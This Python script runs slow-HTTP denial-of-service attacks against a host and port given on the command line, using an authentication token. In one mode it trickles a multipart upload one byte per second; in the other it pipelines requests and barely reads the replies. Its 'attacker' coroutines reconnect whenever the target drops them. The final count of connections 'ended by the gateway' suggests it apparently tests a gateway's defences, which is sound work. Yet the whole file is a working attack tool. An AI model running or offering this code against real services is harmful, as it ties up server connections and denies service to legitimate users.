"""Is slow with a good token: bodies a byte at a time, or replies that are not read. HOST PORT SECONDS COUNT MODE TOKEN

MODE body: an upload of 1 MiB is announced and comes one byte a second. MODE read: twenty requests in a row, no reply is read
and the receive window is as small as it can be. A connection that the gateway ends is opened again.
"""

import asyncio
import socket
import sys
import time

HOST, PORT, SECONDS, COUNT, MODE, TOKEN = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), *sys.argv[5:7]
END = time.monotonic() + SECONDS
ENDED = {"connections": 0, "ended": 0}


async def body(loop, connection):
    head = ("POST /images/inspect HTTP/1.1\r\nHost: gateway.test\r\nContent-Type: multipart/form-data; boundary=b\r\n"
            f"Authorization: Bearer {TOKEN}\r\nContent-Length: 1048576\r\n\r\n--b\r\n")
    await loop.sock_sendall(connection, head.encode())
    while time.monotonic() < END:
        await asyncio.sleep(1)
        await loop.sock_sendall(connection, b"x")


async def read(loop, connection):
    request = f"GET /packs HTTP/1.1\r\nHost: gateway.test\r\nAuthorization: Bearer {TOKEN}\r\n\r\n".encode()
    for _ in range(20):
        await loop.sock_sendall(connection, request)
    while time.monotonic() < END:
        await asyncio.sleep(2)
        await loop.sock_recv(connection, 1)
        await loop.sock_sendall(connection, b"GET ")  # fails once the gateway has closed


async def attacker(loop, number):
    await asyncio.sleep(number / 100)  # their arrival is not the attack
    while time.monotonic() < END:
        connection = socket.socket()
        connection.setblocking(False)
        if MODE == "read":
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        try:
            await loop.sock_connect(connection, (HOST, PORT))
            ENDED["connections"] += 1
            attack = {"body": body, "read": read}[MODE](loop, connection)
            await asyncio.wait_for(attack, max(0.1, END - time.monotonic()))
        except (OSError, asyncio.TimeoutError):
            ENDED["ended"] += time.monotonic() < END
            await asyncio.sleep(0.1)
        finally:
            connection.close()


async def main():
    loop = asyncio.get_running_loop()
    await asyncio.gather(*(attacker(loop, number) for number in range(COUNT)))
    print(f"{ENDED['connections']} connections, {ENDED['ended']} ended by the gateway")


asyncio.run(main())
